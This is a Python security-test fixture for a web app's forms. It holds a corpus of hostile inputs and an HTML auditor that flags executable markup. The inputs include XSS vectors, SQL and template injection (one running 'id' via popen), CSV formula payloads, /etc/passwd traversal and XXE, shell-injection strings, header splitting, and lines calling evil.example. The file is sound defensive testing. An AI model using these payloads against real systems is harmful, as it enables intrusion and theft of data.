"""A corpus of hostile inputs posted into every form field (tests/security).

Hand-written vectors from each family (markup and event-handler XSS, ``javascript:``
links, SVG/MathML and parser-confusion tricks, template and SQL/full-text injection,
NUL and control characters, bidi and invisible characters, homoglyphs, CSV formulas,
very large and deeply nested input, odd numbers — non-ASCII digits and ids past the
integer columns — and header-splitting line breaks) plus programmatic variants: each XSS
vector behind the usual context breakers (closing quotes, tags and comments). Every payload
that can execute calls ``__xss()`` so the browser test can tell if one ever ran.
"""

from __future__ import annotations

import re
from html.parser import HTMLParser

# What ran if a payload executed (the browser test defines nothing: any call throws or sets it).
JS = "window.__xss=1"

SCRIPT_XSS = [
    f"<script>{JS}</script>",
    f"<SCRIPT>{JS}</SCRIPT>",
    f"<ScRiPt>{JS}</sCrIpT>",
    "<script src=//evil.example/x.js></script>",
    f"<script>/*</script><script>*/{JS}</script>",
    f"<scr<script>ipt>{JS}</scr</script>ipt>",
    f"<script\x00>{JS}</script>",
    f"<script\t>{JS}</script>",
    f"<script type=module>{JS}</script>",
    f"<<script>{JS}//<</script>",
    f"</script><script>{JS}</script>",
    f"<script>{JS}",
    f"<scri\u200bpt>{JS}</script>",
    f"%3Cscript%3E{JS}%3C/script%3E",
    f"&lt;script&gt;{JS}&lt;/script&gt;",
    f"&#60;script&#62;{JS}&#60;/script&#62;",
    f"\\u003cscript\\u003e{JS}\\u003c/script\\u003e",
    f'<noscript><p title="</noscript><script>{JS}</script>">',
    f"<!--<script>{JS}</script>-->",
    f"<![CDATA[<script>{JS}</script>]]>",
]

HANDLER_XSS = [
    f"<img src=x onerror={JS}>",
    f'<img src=x onerror="{JS}">',
    f"<IMG SRC=x OnErRoR={JS}>",
    f"<img/src=x/onerror={JS}>",
    f"<img src=x onerror\n={JS}>",
    f"<body onload={JS}>",
    f"<input autofocus onfocus={JS}>",
    f"<details open ontoggle={JS}>",
    f"<video><source onerror={JS}></video>",
    f"<audio src=x onerror={JS}>",
    f"<div onmouseover={JS}>passa qui</div>",
    f"<marquee onstart={JS}>",
    f"<select autofocus onfocus={JS}>",
    f"<textarea autofocus onfocus={JS}>",
    f"<keygen autofocus onfocus={JS}>",
    f"<iframe onload={JS}></iframe>",
    f"<object data=x onerror={JS}>",
    f"<a onclick={JS}>clic</a>",
    f'" onmouseover="{JS}',
    f"' onfocus='{JS}' autofocus='",
    f"<style onload={JS}></style>",
    f"<form><button formaction=javascript:{JS}>x</button></form>",
]

URL_XSS = [
    f"javascript:{JS}",
    f"JaVaScRiPt:{JS}",
    f"java\tscript:{JS}",
    f"java\nscript:{JS}",
    f" \x01javascript:{JS}",
    f"&#106;avascript:{JS}",
    f"&#x6A;avascript:{JS}",
    f"javascript&colon;{JS}",
    "vbscript:msgbox(1)",
    "data:text/html;base64,PHNjcmlwdD53aW5kb3cuX194c3M9MTwvc2NyaXB0Pg==",
    f"data:text/html,<script>{JS}</script>",
    f'<a href="javascript:{JS}">clicca</a>',
    f"<a href=javascript:{JS}>clicca</a>",
    f'<a href="jav&#x09;ascript:{JS}">clicca</a>',
    f"[clicca](javascript:{JS})",
    f"![img](javascript:{JS})",
    f'<iframe src="javascript:{JS}"></iframe>',
    f"<embed src=javascript:{JS}>",
    f'<base href="javascript:{JS}//">',
    f'<meta http-equiv="refresh" content="0;url=javascript:{JS}">',
    f"<link rel=stylesheet href=javascript:{JS}>",
    "//evil.example/%2e%2e",
]

SVG_MATHML = [
    f"<svg onload={JS}>",
    f"<svg><script>{JS}</script></svg>",
    f"<svg><animate onbegin={JS} attributeName=x dur=1s>",
    f'<svg><a xlink:href="javascript:{JS}"><text x=20 y=20>X</text></a></svg>',
    f"<svg><foreignObject><body onload={JS}></body></foreignObject></svg>",
    f"<svg><set attributeName=onmouseover to={JS}>",
    f"<svg><style><img src=x onerror={JS}></style></svg>",
    f"<math><mtext><table><mglyph><style><img src=x onerror={JS}>",
    f'<math href="javascript:{JS}">CLICK</math>',
    f"<math><maction actiontype=statusline xlink:href=javascript:{JS}>x</maction></math>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={JS}>",
    f'<svg></p><style><a id="</style><img src=1 onerror={JS}>">',
    f'<xmp><p title="</xmp><img src=x onerror={JS}>">',
    f"<template><script>{JS}</script></template>",
    f"<isindex type=image src=1 onerror={JS}>",
    f'<table background="javascript:{JS}">',
    f'<div style="background:url(javascript:{JS})">',
    f'<div style="width:expression({JS})">',
    "<style>@import 'http://evil.example/x.css';</style>",
    '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">',
]

TEMPLATE_INJECTION = [
    "{{7*7}}",
    "{{ 7*7 }}",
    "${7*7}",
    "#{7*7}",
    "<%= 7*7 %>",
    "{{config}}",
    "{{config.SECRET_KEY}}",
    "{{ ''.__class__.__mro__[1].__subclasses__() }}",
    "{{ self.__init__.__globals__ }}",
    "{% for x in range(10) %}{{x}}{% endfor %}",
    "{% raw %}{{7*7}}{% endraw %}",
    "[[${7*7}]]",
    "*{7*7}",
    "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
    "%(password)s %s %d %n",
    "{0.__class__}",
]

SQL_AND_SEARCH = [
    "' OR '1'='1",
    "' OR 1=1 --",
    '" OR ""="',
    "'; DROP TABLE proposals; --",
    "1; DELETE FROM users",
    "1 UNION SELECT email, password_hash FROM users --",
    "admin'--",
    "') OR ('a'='a",
    "%' AND 1=0 UNION SELECT NULL --",
    "\\'; SELECT pg_sleep(5); --",
    'NEAR(autobus notte) OR "',
    "autobus* AND NOT scuola",
    '"unbalanced',
    "a & b | !c <-> d:*",
    "(((",
    "))))",
    "^$.*+?[]{}|\\",
    "%",
    "_",
    "\\",
]

CONTROL = [
    "\x00",
    "nul\x00byte",
    "\x00<script>window.__xss=1</script>",
    "testo\x07campanello",
    "testo\x08indietro",
    "riga\x0bverticale",
    "pagina\x0cnuova",
    "\x1b[31mrosso\x1b[0m",
    "canc\x7f",
    "c1\x85\x9b",
    "ritorno\rcarrello",
    "a\r\nSet-Cookie: evil=1",
    "separatore\u2028riga\u2029paragrafo",
    "".join(chr(c) for c in range(1, 32)),
    "\ufffe\uffff",
]

BIDI_AND_INVISIBLE = [
    "\u202eexe.txt",
    "documento\u202efdp.exe",
    "\u202dforzato\u202c",
    "\u202aLRE\u202c \u202bRLE\u202c",
    "\u2066isolato\u2069 \u2067rtl\u2069 \u2068primo\u2069",
    "zero\u200bwidth\u200cjoiner\u200dx",
    "\u200e\u200fmarks",
    "\ufeffbom",
    "admin\u200b",
    "\u061cnota araba",
]

HOMOGLYPHS = [
    "аdmin",  # Cyrillic а
    "раураl",  # Cyrillic р, а, у
    "Ｍｏｄｅｒａｔｏｒｅ",  # fullwidth
    "＜script＞window.__xss=1＜/script＞",
    "﹤script﹥window.__xss=1﹤/script﹥",
    "𝐚𝐥𝐞𝐫𝐭(1)",
    "ΑΒΓ Greek capitals",
    "ⅰⅱⅲ roman numerals",
    "ﬁle ligature",
    "e\u0301 combining accent",
    "Z̷̧̛̖͎̈́a̶̡̛͉͐l̵̨̛͓̈́g̸̡̛͓̈́o̶̡̍",
    "مرحبا بالعالم",
    "שלום עולם",
    "😀🏳️‍🌈👩‍👩‍👧‍👦",
    "\U0001f4a9" * 50,
]

OTHER = [
    "=cmd|' /C calc'!A0",
    "+SUM(1+1)*cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+1)",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "file:///etc/passwd",
    '<?xml version="1.0"?><!DOCTYPE x [<!ENTITY e SYSTEM "file:///etc/passwd">]><x>&e;</x>',
    "$(id)",
    "`id`",
    "; ls -la",
    "| cat /etc/passwd",
    '{"$gt": ""}',
    "__proto__",
    "constructor.prototype",
    "   ",
    "",
    "a",
    "<",
    ">",
    "&",
    "&amp;amp;",
    "<>",
    "</",
    "<!",
    "<?",
    "&#0;",
    "&#xD800;",
    "&NewLine;",
]

LARGE = [
    "A" * (1024 * 1024),
    "<script>window.__xss=1</script>" * 2000,
    "é" * 300_000,
    "x" * 100_000,
    "parola " * 20_000,
]

NESTED = [
    "<div>" * 5000 + "profondo" + "</div>" * 5000,
    "<b><i><u>" * 2000 + "testo",
    "<" * 10_000,
    "<a " * 3000,
    "[" * 5000 + "]" * 5000,
    "{{" * 3000,
    "<!--" * 2000,
    "<svg><g>" * 1000 + "<script>window.__xss=1</script>",
]

# Numbers that are not what they look like (issue 13, finding 7): digits ``str.isdigit()``
# accepts but ``int()`` refuses (superscripts, circled), digits ``int()`` reads although they
# are not ASCII (Arabic-Indic, fullwidth, Devanagari, mathematical), and number-like text.
UNICODE_DIGITS = ["²", "¹²", "³⁴⁵", "①", "⑫", "١٢", "１２", "०७", "𝟙𝟚", "2²", "½", "Ⅻ"]
# Ids past every integer column: PostgreSQL INTEGER (2**31 - 1) and SQLite's 64 bits.
HUGE_IDS = [
    "2147483648",
    "3000000000",
    "9223372036854775807",
    "9223372036854775808",
    "99999999999999999999",
    "1" + "0" * 40,
]
NUMBER_LIKE = ["-1", "0", "+1", "1e3", "0x10", "1.5", " 7", "00000000000000000000001", "NaN", "Infinity"]
ODD_NUMBERS = UNICODE_DIGITS + HUGE_IDS + NUMBER_LIKE
# Line breaks where the value may end up in a header (``?next=`` becomes a ``Location``).
HEADER_SPLITTING = [
    "/\r\n",
    "/\r\nSet-Cookie: forum=1",
    "/\nLocation: //evil.example",
    "/\r\nX-Injected: 1",
    "\r\n\r\n<script>window.__xss=1</script>",
]

# Context breakers put in front of each XSS vector (attribute, textarea, title, comment).
BREAKERS = ['">', "'>", "</textarea>", "</title>", "-->", "</option></select>", '"/><p x="']
_VECTORS = [HANDLER_XSS[0], SCRIPT_XSS[0], SVG_MATHML[0], URL_XSS[11], HANDLER_XSS[5], HANDLER_XSS[7]]
GENERATED = [breaker + vector for breaker in BREAKERS for vector in _VECTORS]

CORPUS: list[str] = list(
    dict.fromkeys(
        SCRIPT_XSS
        + HANDLER_XSS
        + URL_XSS
        + SVG_MATHML
        + TEMPLATE_INJECTION
        + SQL_AND_SEARCH
        + CONTROL
        + BIDI_AND_INVISIBLE
        + HOMOGLYPHS
        + OTHER
        + LARGE
        + NESTED
        + GENERATED
        + ODD_NUMBERS
        + HEADER_SPLITTING
    )
)

# Raw request bodies that are not valid UTF-8 (sent with the test client as bytes).
INVALID_UTF8 = [
    b"\xff\xfe\xfd",
    b"\xc3\x28",
    b"\xa0\xa1",
    b"\xe2\x28\xa1",
    b"\xf0\x28\x8c\x28",
    b"\xed\xa0\x80",  # a UTF-16 surrogate encoded in UTF-8
    b"\xc0\xaf",  # overlong "/"
    b"\xf8\x88\x80\x80\x80",
    b"caf\xe9",  # Latin-1, not UTF-8
    b"<script>\xff</script>",
]

# A sample for the secondary fields of each form (the main field gets the whole corpus).
SAMPLE: list[str] = [
    SCRIPT_XSS[0],
    SCRIPT_XSS[15],
    HANDLER_XSS[0],
    HANDLER_XSS[18],
    URL_XSS[0],
    URL_XSS[11],
    SVG_MATHML[0],
    SVG_MATHML[7],
    TEMPLATE_INJECTION[0],
    SQL_AND_SEARCH[3],
    CONTROL[1],
    CONTROL[13],
    BIDI_AND_INVISIBLE[1],
    HOMOGLYPHS[0],
    NESTED[0],
    LARGE[0],
    GENERATED[0],
    GENERATED[-1],
    HANDLER_XSS[5],
    URL_XSS[13],
    SVG_MATHML[10],
    TEMPLATE_INJECTION[3],
    CONTROL[0],
    HOMOGLYPHS[3],
    OTHER[0],
    LARGE[1],
    UNICODE_DIGITS[0],
    HUGE_IDS[1],
    HEADER_SPLITTING[1],
]

# --- what may never be stored or rendered -------------------------------------------------

# Anything a browser would parse as the start of a tag, comment or processing instruction.
TAG_START = re.compile(r"<[A-Za-z/!?]")
FORBIDDEN_CHARS = re.compile(
    "[\x00-\x08\x0b\x0c\x0e-\x1f\x7f-\x9f\u200b-\u200f\u202a-\u202e\u2066-\u2069\ufeff]"
)
DANGEROUS_TAGS = {"script", "svg", "math", "iframe", "object", "embed", "base", "meta", "style", "template"}
URL_ATTRIBUTES = {"href", "src", "action", "formaction", "xlink:href", "background", "data", "poster"}
BAD_SCHEME = re.compile(r"^\s*(javascript|vbscript|data):", re.IGNORECASE)


def _layout_own(tag: str, attrs: dict) -> bool:
    """The layout's own tags: <meta charset>/<meta name=viewport>, scripts loaded from our
    static files, and Bootstrap Italia sprite icons (macros/ui.html icon)."""
    if tag == "meta":
        return set(attrs) <= {"charset", "name", "content"}
    if tag == "script":
        return set(attrs) <= {"src", "defer"} and (attrs.get("src") or "").startswith("/static/")
    if tag == "svg":
        return (attrs.get("class") or "").split()[:1] == ["icon"] and not any(
            n.startswith("on") for n in attrs
        )
    return False


class _PageAudit(HTMLParser):
    """Parses a page as a browser would and notes every tag or attribute that could run code."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.problems: list[str] = []

    def handle_starttag(self, tag, attrs):
        if tag in DANGEROUS_TAGS and not _layout_own(tag, dict(attrs)):
            self.problems.append(f"<{tag}>")
        for name, value in attrs:
            if name.startswith("on"):
                self.problems.append(f"<{tag} {name}=>")
            if name in URL_ATTRIBUTES and value and BAD_SCHEME.match(value):
                self.problems.append(f"<{tag} {name}={value[:40]}>")
            if name == "style":
                self.problems.append(f"<{tag} style=>")


def html_problems(page: str) -> list[str]:
    """Tags and attributes in ``page`` that would let injected content run or restyle the page."""
    audit = _PageAudit()
    audit.feed(page)
    audit.close()
    return audit.problems


def stored_problems(value: str) -> list[str]:
    """Why ``value`` should not be in the database (empty when it is clean plain text)."""
    problems = []
    if TAG_START.search(value):
        problems.append("markup")
    if FORBIDDEN_CHARS.search(value):
        problems.append("control or bidi character")
    return problems
